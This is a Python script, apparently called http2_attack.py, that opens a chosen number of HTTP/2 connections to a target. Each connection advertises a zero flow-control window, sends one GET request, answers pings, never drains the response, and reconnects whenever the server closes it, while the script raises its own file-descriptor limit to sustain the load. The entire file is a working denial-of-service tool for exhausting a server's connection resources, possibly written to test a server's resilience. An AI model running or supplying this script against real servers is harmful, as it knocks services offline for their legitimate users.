"""Clients that send requests over HTTP/2 and never read the responses. Each connection has a window of zero, sends one
`GET /health/live`, answers pings, and is reopened when the server closes it.

    python3 http2_attack.py HOST:PORT CONNECTIONS

Prints `connections answered` (their headers, the body cannot follow) every second, until it is terminated.
"""

import asyncio
import contextlib
import resource
import sys

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings

REQUEST = [(":method", "GET"), (":scheme", "http"), (":authority", "x"), (":path", "/health/live")]

counts = {"connected": 0, "answered": 0}


async def hold(host, port):
    """Holds one connection until the server closes it."""
    reader, writer = await asyncio.open_connection(host, port)
    counts["connected"] += 1
    answered = False
    try:
        client = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        window = {h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0}
        client.local_settings = h2.settings.Settings(client=True, initial_values=window)
        client.initiate_connection()
        client.send_headers(1, REQUEST, end_stream=True)
        writer.write(client.data_to_send())
        while data := await reader.read(65536):
            for event in client.receive_data(data):
                if isinstance(event, h2.events.ResponseReceived):
                    answered = True
                    counts["answered"] += 1
            writer.write(client.data_to_send())
    finally:
        counts["connected"] -= 1
        counts["answered"] -= answered
        writer.close()


async def hold_for_ever(host, port):
    while True:
        with contextlib.suppress(OSError, h2.exceptions.ProtocolError):
            await hold(host, port)
        await asyncio.sleep(0.01)


async def main(address, connections):
    host, port = address.rsplit(":", 1)
    tasks = [asyncio.create_task(hold_for_ever(host, port)) for _ in range(connections)]
    while True:
        await asyncio.sleep(1)
        print(counts["connected"], counts["answered"], flush=True)
        assert not any(task.done() for task in tasks)


if __name__ == "__main__":
    descriptors = int(sys.argv[2]) + 64
    limit, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    if limit < descriptors:
        resource.setrlimit(resource.RLIMIT_NOFILE, (descriptors, most))
    with contextlib.suppress(KeyboardInterrupt):
        asyncio.run(main(sys.argv[1], int(sys.argv[2])))
